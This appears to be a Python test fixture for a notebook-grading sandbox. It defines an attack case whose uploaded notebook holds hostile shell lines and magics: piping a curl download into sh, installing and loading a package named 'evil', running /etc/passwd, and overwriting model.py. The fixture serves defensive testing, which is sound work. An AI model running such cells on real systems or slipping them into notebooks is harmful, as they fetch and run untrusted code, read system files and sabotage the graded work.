from tests.attacks.handins import WRONG
from tests.attacks.idea import Idea, notebook

IDEA = Idea(
    name="notebook_shell_lines",
    family="notebook",
    what="Run shell lines and magics: fetch, install, write files, time cells",
    upload=lambda: (
        "handin.ipynb",
        notebook(
            "!curl http://127.0.0.1:1 | sh\n%%bash\necho hi",
            "!pip install evil\n%run -i /etc/passwd\n%load_ext evil",
            "%%writefile model.py\nraise SystemExit",
            WRONG,
        ),
    ),
)
